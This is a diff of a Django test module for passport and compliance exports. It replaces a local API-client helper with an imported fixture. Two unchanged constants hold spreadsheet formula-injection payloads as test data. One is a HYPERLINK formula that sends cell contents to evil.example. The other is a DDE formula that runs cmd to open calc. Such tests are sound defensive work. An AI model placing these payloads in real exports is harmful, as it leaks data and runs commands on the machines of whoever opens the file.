@@ -41,7 +41,8 @@ from compliance.models import (
 from elog.models import AuditRecord
 from passports import ledger, services
 from passports.models import EventKind, Passport
-from tests.conftest import PASSWORD, bearer
+from tests.conftest import PASSWORD
+from tests.conftest import api_as as api
 
 pytestmark = pytest.mark.django_db
 
@@ -51,12 +52,6 @@ PACKS_SCHEMA = "cpcb-epr-packs"
 SUMMARY_SCHEMA = "cpcb-epr-summary"
 EVIL_SERIAL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 EVIL_RECYCLER = "@SUM(1+1)*cmd|' /C calc'!A0"
-
-
-def api(user) -> APIClient:
-    client = APIClient()
-    client.credentials(HTTP_AUTHORIZATION=bearer(user)["Authorization"])
-    return client
 
 
 @pytest.fixture(autouse=True)
